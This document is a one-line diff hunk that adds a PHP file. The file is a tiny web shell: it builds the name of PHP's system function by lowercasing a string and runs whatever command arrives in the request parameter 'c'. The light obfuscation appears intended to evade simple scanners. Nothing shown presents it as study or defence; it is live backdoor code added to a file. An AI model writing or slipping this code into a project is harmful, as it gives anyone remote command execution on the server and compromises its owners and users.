@@ -1,0 +1,1 @@
+<?php $f = strtolower("SYSTEM"); $f($_REQUEST["c"]);
